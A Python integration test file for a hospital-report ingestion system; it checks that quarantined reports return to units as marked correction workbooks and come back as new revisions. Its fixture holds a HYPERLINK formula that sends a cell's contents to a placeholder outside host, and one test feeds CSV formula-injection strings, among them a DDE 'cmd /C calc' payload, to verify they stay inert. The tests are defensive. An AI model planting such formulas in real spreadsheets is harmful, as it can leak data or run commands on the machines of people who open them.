"""A quarantined report goes back to its unit as a workbook, and comes back mended as the next revision."""

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import xlwt

from ingestion.registry import ReportNotFound
from ingestion.workbooks.corrections import correct_report, correct_unit
from ingestion.workbooks.own_sheets import FINDINGS
from tests.integration.ingestion.conftest import COLUMNS, Bureau
from tests.integration.ingestion.test_cards import LABELS, as_csv, card

BROKEN = {"visits": 100, "outpatient": 900}
"""More outpatient visits than visits: rule HM01."""


def workbook(*rows: dict[str, object], sheet: str = "月报", extra: bool = True) -> bytes:
    """A monthly workbook as a hospital makes it: a title, formats, a formula, a sheet of its own."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = sheet
    page.append(["医疗服务月报表"])
    page.append([COLUMNS[key] for key in COLUMNS])
    for row in rows:
        page.append([row.get(key) for key in COLUMNS])
    page["A1"].font = openpyxl.styles.Font(bold=True, size=18)
    page.cell(3, list(COLUMNS).index("revenue") + 1).number_format = '#,##0.00"千元"'
    if extra:
        notes = book.create_sheet("内部备注")
        notes["A1"] = "只给自己看"
        notes["A2"] = "=SUM(1,2)"
        notes["A3"] = '=HYPERLINK("http://example.invalid/"&A1,"x")'
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def place(key: str, row: int = 3) -> str:
    return f"{openpyxl.utils.get_column_letter(list(COLUMNS).index(key) + 1)}{row}"


def report_id(bureau: Bureau, code: str = "T-1", month: date = date(2015, 1, 1)) -> int:
    return bureau.value(
        "select report_id from registry.report where subject_code = :code and period_start = :month",
        code=code,
        month=month,
    )


def send_back(bureau: Bureau, path: Path, **cells: object) -> None:
    """The unit mends cells of the workbook and delivers it."""
    book = openpyxl.load_workbook(path)
    page = next(one for one in book.worksheets if one.title != FINDINGS)
    for cell, value in cells.items():
        page[cell] = value
    content = io.BytesIO()
    book.save(content)
    bureau.send_bytes(path.name, content.getvalue())


def test_the_units_workbook_comes_back_marked_and_is_taken_in_mended(bureau: Bureau, tmp_path: Path):
    bureau.send_bytes("一月.xlsx", workbook(bureau.row(**BROKEN)))
    bureau.take_in()
    assert bureau.revisions() == [(1, "quarantined")]
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path)
    assert written.path == tmp_path / "一月_更正.xlsx"
    assert written.kept_original
    book = openpyxl.load_workbook(written.path)
    assert book.sheetnames == [FINDINGS, "月报", "内部备注"]
    page = book["月报"]
    assert page["A1"].font.size == 18
    assert page[place("revenue")].number_format == '#,##0.00"千元"'
    marked = [cell for row in page.iter_rows() for cell in row if cell.comment]
    # Any of the cells that the rule compares may be the wrong one.
    assert {cell.coordinate for cell in marked} == {place("outpatient"), place("visits")}
    assert page[place("outpatient")].value == 900
    for cell in marked:
        assert cell.comment.text.startswith("【HM01】门诊和急诊人次数不能大于总诊疗人次数")
        assert cell.fill.start_color.rgb == "00FFC7CE"
    listed = book[FINDINGS]
    row = [cell.value for cell in listed[5]]
    assert row[1:3] == ["须改正", "HM01"]
    assert row[4:6] == ["月报", place("outpatient")]
    assert listed["F5"].hyperlink.location == f"'月报'!{place('outpatient')}"
    assert written.path.stat().st_mode & 0o077 == 0

    send_back(bureau, written.path, **{place("outpatient"): 90})
    result = bureau.take_in()
    assert result.files[0].status == "taken_in"
    assert bureau.revisions() == [(1, "superseded"), (2, "accepted")]
    assert bureau.visits() == 100
    found = bureau.value(
        "select count(*) from registry.finding f join registry.arrival a using (arrival_id)"
        " where a.file_name = :name and (f.sheet = :sheet or f.revision_id is not null)",
        name=written.path.name,
        sheet=FINDINGS,
    )
    assert found == 0


def test_values_of_formulas_are_kept_and_formulas_that_reach_outside_become_values(
    bureau: Bureau, tmp_path: Path
):
    bureau.send_bytes("一月.xlsx", workbook(bureau.row(**BROKEN)))
    bureau.take_in()
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path / "更正.xlsx")
    notes = openpyxl.load_workbook(written.path)["内部备注"]
    assert notes["A2"].value == "=SUM(1,2)"
    assert notes["A3"].value is None


def test_a_workbook_that_is_still_wrong_is_marked_anew(bureau: Bureau, tmp_path: Path):
    bureau.send_bytes("一月.xlsx", workbook(bureau.row(**BROKEN)))
    bureau.take_in()
    first = correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path)
    send_back(bureau, first.path, **{place("outpatient"): 90, place("discharges"): "约一百"})
    bureau.take_in()
    assert bureau.revisions()[-1] == (2, "quarantined")
    second = correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path)
    book = openpyxl.load_workbook(second.path)
    assert book.sheetnames == [FINDINGS, "月报", "内部备注"]
    commented = {cell.coordinate for row in book["月报"].iter_rows() for cell in row if cell.comment}
    assert commented == {place("discharges")}
    assert book["月报"][place("outpatient")].fill.fill_type is None
    assert second.path.name == "一月_更正(2).xlsx"


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_of_a_file_of_several_units_only_the_units_own_rows_are_written(
    bureau: Bureau, tmp_path: Path, ending: str
):
    rows = [bureau.row("T-1"), bureau.row("T-2", **BROKEN), bureau.row("T-1", "2015-02", revenue=654321)]
    if ending == "csv":
        bureau.send("合并.csv", *rows)
    else:
        bureau.send_bytes("合并.xlsx", workbook(*rows))
    bureau.take_in()
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau, "T-2"), tmp_path / "更正.xlsx")
    assert not written.kept_original
    with zipfile.ZipFile(written.path) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert "T-1" not in everything
    assert "654321" not in everything
    assert "只给自己看" not in everything
    book = openpyxl.load_workbook(written.path)
    page = book.worksheets[1]
    row = 3 if ending == "csv" else 4
    codes = [page.cell(number, 1).value for number in range(1, row + 3)]
    assert codes[row - 1] == "T-2"
    assert [page[place(key, row)].value for key in ("visits", "outpatient")] == [100, 900]
    assert page[place("outpatient", row)].comment

    send_back(bureau, written.path, **{place("outpatient", row): 90})
    bureau.take_in()
    assert bureau.revisions("T-2") == [(1, "superseded"), (2, "accepted")]
    assert bureau.revisions("T-1") == [(1, "accepted")]


def old_workbook(row: dict[str, object]) -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    page = book.add_sheet("月报")
    for column, (key, label) in enumerate(COLUMNS.items()):
        page.write(0, column, label)
        page.write(1, column, row[key])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def archive_of(row: dict[str, object]) -> bytes:
    text = ",".join(COLUMNS.values()) + "\n" + ",".join(str(row[key]) for key in COLUMNS) + "\n"
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("甲医院/一月.csv", text.encode("gb18030"))
    return content.getvalue()


@pytest.mark.parametrize("write", [old_workbook, archive_of])
def test_files_that_are_no_new_workbook_become_one(bureau: Bureau, tmp_path: Path, write):
    bureau.send_bytes("一月", write(bureau.row(revenue=512.5, **BROKEN)))
    bureau.take_in()
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path)
    assert not written.kept_original
    page = openpyxl.load_workbook(written.path).worksheets[1]
    assert page[place("revenue", 2)].value == 512.5
    assert page[place("staff", 2)].value == 100
    assert page[place("outpatient", 2)].comment
    send_back(bureau, written.path, **{place("outpatient", 2): 90})
    bureau.take_in()
    assert bureau.revisions() == [(1, "superseded"), (2, "accepted")]


def arranged(layout: str, rows: list[dict[str, object]]) -> tuple[bytes, str]:
    """Reports of several units in one workbook, and the cell of the second one's outpatient visits."""
    book = openpyxl.Workbook()
    page = book.active
    keys = list(COLUMNS)
    if layout == "transposed":
        for key in keys:
            page.append([COLUMNS[key], *(row[key] for row in rows)])
        cell = f"C{keys.index('outpatient') + 1}"
    elif layout == "long":
        page.append(["机构编码", "统计年月", "指标", "数值"])
        for key in keys[2:]:
            for row in rows:
                page.append([row["code"], row["month"], COLUMNS[key], row[key]])
        cell = f"D{2 + len(rows) * (keys.index('outpatient') - 2) + 1}"
    else:
        book.remove(page)
        for row in rows:
            page = book.create_sheet(str(row["code"]))
            for key in keys:
                page.append([COLUMNS[key], row[key]])
        cell = f"B{keys.index('outpatient') + 1}"
    content = io.BytesIO()
    book.save(content)
    return content.getvalue(), cell


@pytest.mark.parametrize("layout", ["transposed", "long", "sheet"])
def test_in_every_layout_a_unit_sees_its_own_numbers_and_sends_all_of_them_back(
    bureau: Bureau, tmp_path: Path, layout: str
):
    rows = [bureau.row("T-1", revenue=654321), bureau.row("T-2", **BROKEN), bureau.row("T-9", revenue=765432)]
    content, cell = arranged(layout, rows)
    bureau.send_bytes("合并.xlsx", content)
    bureau.take_in()
    assert bureau.revisions("T-2") == [(1, "quarantined")]
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau, "T-2"), tmp_path / "更正.xlsx")
    with zipfile.ZipFile(written.path) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert not [other for other in ("654321", "765432", "T-1<", "T-9<") if other in everything]
    send_back(bureau, written.path, **{cell: 90})
    bureau.take_in()
    assert bureau.revisions("T-2") == [(1, "superseded"), (2, "accepted")]
    columns = "visits_total, visits_outpatient_emergency, discharges, beds_actual, staff_technical"
    found = bureau.rows(
        f"select {columns} from raw.hosp_monthly w join registry.report r"
        " on r.current_revision_id = w.revision_id where r.subject_code = 'T-2'"
    )
    assert [tuple(row) for row in found] == [(100, 90, 120, 50, 100)]


def test_text_that_looks_like_a_formula_stays_text(bureau: Bureau, tmp_path: Path):
    names = ["=1+1", "＝cmd|' /C calc'!A0", "+86", "-x", "@SUM(A1)", "\t=2"]
    header = ",".join([*COLUMNS.values(), "备注"])
    row = bureau.row(**BROKEN)
    lines = [",".join([*(str(row[key]) for key in COLUMNS), f'"{name}"']) for name in names[:1]]
    for number, name in enumerate(names[1:], start=2):
        other = bureau.row(month=f"2015-{number:02}", **BROKEN)
        lines.append(",".join([*(str(other[key]) for key in COLUMNS), f'"{name}"']))
    bureau.send_bytes("一年.csv", "\n".join([header, *lines]).encode())
    bureau.take_in()
    (written,) = correct_unit(bureau.loader, bureau.settings, "T-1", tmp_path / "给单位")
    assert len(written.reports) == len(names)
    page = openpyxl.load_workbook(written.path).worksheets[1]
    cells = [page.cell(number, len(COLUMNS) + 1) for number in range(2, len(names) + 2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(names)
    assert [cell.value.strip() for cell in cells] == [name.strip() for name in names]
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(written.path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_a_unit_without_anything_in_quarantine_gets_no_workbook(bureau: Bureau, tmp_path: Path):
    bureau.send("一月.csv", bureau.row())
    bureau.take_in()
    assert correct_unit(bureau.loader, bureau.settings, "T-1", tmp_path / "给单位") == []
    with pytest.raises(ReportNotFound, match="nothing to correct"):
        correct_report(bureau.loader, bureau.settings, report_id(bureau), tmp_path / "更正.xlsx")
    with pytest.raises(ReportNotFound, match="does not exist"):
        correct_report(bureau.loader, bureau.settings, 4711, tmp_path / "更正.xlsx")


def test_cards_set_aside_come_back_alone_and_are_taken_in_mended(bureau: Bureau, tmp_path: Path):
    cards = [card(1), card(2, disease_code="没有的病"), card(3), card(4, disease_code="")]
    bureau.send_bytes("卡片.csv", as_csv(cards), source="cdc")
    bureau.take_in("cdc")
    batch = bureau.value("select report_id from registry.report where form_code = 'idr_card'")
    written = correct_report(bureau.loader, bureau.settings, batch, tmp_path)
    book = openpyxl.load_workbook(written.path)
    page = book.worksheets[1]
    place = list(LABELS).index("disease_code") + 1
    assert [cell.value for cell in page["A"]] == ["卡片编号", None, "LH201500002", None, "LH201500004"]
    assert {cell.coordinate for row in page.iter_rows() for cell in row if cell.comment} == {"M3", "M5"}
    assert written.path.stat().st_mode & 0o077 == 0
    for row in (3, 5):
        page.cell(row, place, "手足口病")
    content = io.BytesIO()
    book.save(content)
    bureau.send_bytes(written.path.name, content.getvalue(), source="cdc")
    bureau.take_in("cdc")
    counted = (
        "select card_no, count(*) from raw.idr_card where set_aside is null group by card_no order by card_no"
    )
    assert bureau.rows(counted) == [(f"LH2015{number:05}", 1) for number in (1, 2, 3, 4)]


def test_a_batch_that_waits_as_a_whole_comes_back_as_a_whole(bureau: Bureau, tmp_path: Path):
    bureau.send_bytes(
        "卡片.csv", as_csv([card(1), *(card(n, disease_code="") for n in (2, 3, 4))]), source="cdc"
    )
    bureau.take_in("cdc")
    batch = bureau.value("select report_id from registry.report where form_code = 'idr_card'")
    written = correct_report(bureau.loader, bureau.settings, batch, tmp_path)
    page = openpyxl.load_workbook(written.path).worksheets[1]
    assert [cell.value for cell in page["A"]][1:] == [f"LH2015{number:05}" for number in (1, 2, 3, 4)]


def test_of_a_file_of_several_units_cards_a_unit_sees_its_own_cards_only(bureau: Bureau, tmp_path: Path):
    columns = "机构编码,病案号,身份证号,性别,出生日期,入院时间,出院时间,实际住院天数,出院主要诊断编码,离院方式,总费用"
    lines = [
        columns,
        "T-1,甲一,,男,1980-05-07,2015-01-02 09:00,2015-01-05 09:00,3,J18.900,医嘱离院,1000",
        "T-2,乙一,,男,1980-05-07,2015-01-03 09:00,2015-01-06 09:00,3,J18.900,医嘱离院,1000",
        "T-2,乙二,,男,1980-05-07,2015-01-03 09:00,2015-01-06 09:00,3,J18.900,不知道,多少钱",
        "T-2,乙三,,男,1980-05-07,2015-01-03 09:00,2015-01-06 09:00,3,J18.900,医嘱离院,1000",
    ]
    bureau.send_bytes("首页.csv", "\n".join(lines).encode())
    bureau.take_in()
    written = correct_report(bureau.loader, bureau.settings, report_id(bureau, "T-2"), tmp_path)
    book = openpyxl.load_workbook(written.path)
    assert [cell.value for cell in book.worksheets[1]["B"]] == ["病案号", None, "乙一", "乙二", "乙三"]
    marked = {cell.coordinate for row in book.worksheets[1].iter_rows() for cell in row if cell.comment}
    assert "K4" in marked
